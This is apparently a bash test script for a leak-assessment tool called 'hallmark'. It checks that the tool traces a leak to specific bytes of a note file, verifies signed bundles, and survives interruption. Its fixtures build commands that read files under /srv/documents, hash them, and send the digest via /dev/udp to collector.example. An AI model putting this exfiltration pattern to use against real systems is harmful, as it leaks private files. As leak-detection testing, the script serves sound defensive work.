#!/bin/bash
# Where an influence comes from: of a program that sends a digest of three lines of a note the document and the bytes are found and shown; a verifier comes to the same; what varied cannot be said to have been something else. An experiment that is
# interrupted while it locates goes on. Of a program that leaks in every other run nothing false is said.
#
# By chance it fails less than once in 1,000 runs: what is located is false with a chance of 1 in 800 for a target, and digests of 8 hex digits that are alike by chance are rarer.
#   locate.sh BUILD
set -u
hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify")
[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; exit 0; }
top=$(dirname "$(realpath "$0")")/../..
work=$(mktemp -d /var/tmp/hallmark-locate-XXXXXX)
export HALLMARK_WORK=$work/w
trap 'rm -rf "$work"' EXIT
n=0 failed=0
result() { # CONDITION-EXIT TEXT
	n=$((n + 1))
	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
}
"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
ask() { # BUNDLE EXPRESSION: of its findings `f`, the rows that located something, and its assessment and plan, must be true
	/usr/bin/python3 -c "
import json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
f, a, p = (json.loads(z.read(name)) for name in ('findings.json', 'assessment.json', 'plan.json'))
content = next(c for c in f['claims'] if c['id'] == 'collect.content')
rows = [row for row in f['located'] if row['places']]
places = [place for row in rows for place in row['places']]
done = [run for run in a['runs'] if run['kind'] == 'locate']
dropped = [d for d in a['dropped'] if d['rule'] == 'nothing to locate']
sys.exit(0 if $2 else 1)" "$work/$1.hallmark"
}
verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said"; ! grep -q FALSE "$work/said" && grep -q 'sets, made again from the seed' "$work/said"; }
assess() { # NAME COMMAND OPTION...
	local name=$1 command=$2
	shift 2
	timeout 600 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --locate -o "$work/$name.hallmark" "$@" -- bash -c "$command" >"$work/$name.out" 2>"$work/$name.err"
}
send() { # HOW TO GET THE VALUE
	printf 'value=$(%s); printf -v text "Op: report\\nValue: %%%%s" "${value%%%%%%%% *}"; cat <<<"$text" >/dev/udp/collector.example/9000' "$1"
}

# Lines 6 to 8 of the note; its bytes are in the page of the chamber's documents.
lines=$(printf "$(send 'sed -n 6,8p /srv/documents/note* | md5sum | cut -c 1-8')")
assess lines "$lines"
result "$([ $? = 1 ]; echo $?)" "a leak is refuted"
tail -n 3 "$work/lines.err" | sed 's/^/# /'
verified lines
result $? "... its bundle verifies, and so does what is located"
ask lines "rows and all(row['reason'] == 'located' and row['rest'] == 'same' for row in rows) and {place['document'] for place in places} == {'note.txt'}"
result $? "... it comes from the note, and from nothing else"
bounds=$(/usr/bin/python3 -c "
import json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
sets = json.loads(z.read('planted.json'))['sets']
row = next(row for row in sets[0]['files'] if row['path'].startswith('note'))
lines = z.read(row['part']).split(b'\n')
print(sum(len(line) + 1 for line in lines[:5]), sum(len(line) + 1 for line in lines[:8]))" "$work/lines.hallmark")
first=${bounds% *} end=${bounds#* }
ask lines "all($first <= place['offset'] and place['offset'] + place['length'] <= $end and place['part'] == 'file' for place in places)"
result $? "... from bytes of these lines (between $first and $end)"
ask lines "all(place['offset'] < $first + 60 and place['offset'] + place['length'] > $end - 60 for place in places)"
result $? "... of the first and of the last of them"
grep -q 'note.txt, bytes' "$work/lines.out" || tr '\n' ' ' <"$work/lines.out" | tr -s ' ' | grep -q 'on note.txt, bytes [0-9]* to [0-9]* of [0-9,]*: varied alone, that made the difference in'
result $? "... and the table says so"
"$hallmark" report "$work/lines.hallmark" -o "$work/lines.html" >/dev/null 2>&1 && grep -q 'Where it comes from' "$work/lines.html"
result $? "... and the page"
ask lines "done and len(done) + len(dropped) == 256 and f['experiment']['locate'] == len(done) / 2 and content['reason'] == 'influence.confirmed'"
result $? "... blocks that had nothing to ask are left out"

altered() { # NAME STATEMENTS: evaluates the bundle with its assessment so changed
	/usr/bin/python3 "$top/tests/support/alter.py" "$work/$1.hallmark" "$work/altered.hallmark" "$2" && "$hallmark" evaluate "$work/altered.hallmark" >"$work/altered.json" 2>"$work/altered.err"
}
while IFS='|' read -r text said statements; do
	altered lines "begun = [b for b in blocks if b['phase'] == 'locate']; ran = [r['run'] for r in a['runs'] if r['kind'] == 'locate']; $statements"
	result "$([ $? = 1 ] && grep -q "$said" "$work/altered.err"; echo $?)" "... $text is refused"
	grep -q "$said" "$work/altered.err" || sed 's/^/# /' "$work/altered.err" | head -n 3
done <<'T'
documents that were not asked for|varies something else than was to be asked|sets = {s['run']: s for s in a['sets']}; sets[ran[0]]['set'], sets[ran[1]]['set'] = sets[ran[1]]['set'], sets[ran[0]]['set']
a question that was left out|something was to be asked|gone.update(ran[-2:]); a['runs'] = [r for r in a['runs'] if r['run'] not in gone]; a['sets'] = [s for s in a['sets'] if s['run'] not in gone]; a['dropped'] = sorted(a['dropped'] + [{'run': r, 'rule': 'nothing to locate'} for r in gone], key=lambda d: d['run'])
the rule for another phase|always done|[d.update(rule='nothing kept') for d in a['dropped'] if d['rule'] == 'nothing to locate']
T

# Interrupted while it locates.
timeout 600 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --locate -q -o "$work/part.hallmark" -- bash -c "$lines" >/dev/null 2>"$work/part.err" &
timeout=$!
until pid=$(cat /proc/$timeout/task/$timeout/children) && [ -n "$pid" ]; do sleep 0.01; done
pid=${pid% }
first=$(/usr/bin/python3 -c "
import json, sys, zipfile
blocks = json.loads(zipfile.ZipFile(sys.argv[1]).read('plan.json'))['blocks']
print(next(b['runs'][0] for b in blocks if b['phase'] == 'locate'))" "$work/lines.hallmark")
until compgen -G "$HALLMARK_WORK/assess-$pid/$(printf %04d $((first + 10))).record*" >/dev/null || ! kill -0 $pid 2>/dev/null; do sleep 0.02; done
kill -INT $pid
wait $timeout
result "$([ $? = 130 ]; echo $?)" "a signal while it locates: exit 130"
verified part
result $? "... its bundle verifies"
ask part "content['reason'] == 'influence.confirmed' and all(c['reason'] != 'run.missing' for c in f['claims']) and {row['reason'] for row in f['located']} == {'blocks'} and not places"
result $? "... no claim lacks what was not located, and nothing is said to be"
assess whole "$lines" --resume "$work/part.hallmark"
result "$([ $? = 1 ]; echo $?)" "... resumed to its end"
verified whole
result $? "... its bundle verifies"
ask whole "rows and all(row['reason'] == 'located' for row in rows) and {place['document'] for place in places} == {'note.txt'} and f['experiment']['resumed'] == 1"
result $? "... it comes from the note"

# What comes and goes by itself: the tick of the kernel in which the program began, which nobody makes equal.
often=$(printf "$(send 'd=$(md5sum </srv/documents/note* | cut -c 1-8); read -r -a s </proc/$$/stat; [ $((s[21] %% 2)) = 1 ] && echo $d || echo 00000000')")
assess often "$often"
[ $? -le 2 ]
result $? "a program whose leak depends on more is assessed"
ask often "all(place['document'] == 'note.txt' for place in places)"
result $? "... and nothing false is located"
verified often
result $? "... its bundle verifies"
echo "1..$n"
exit $failed
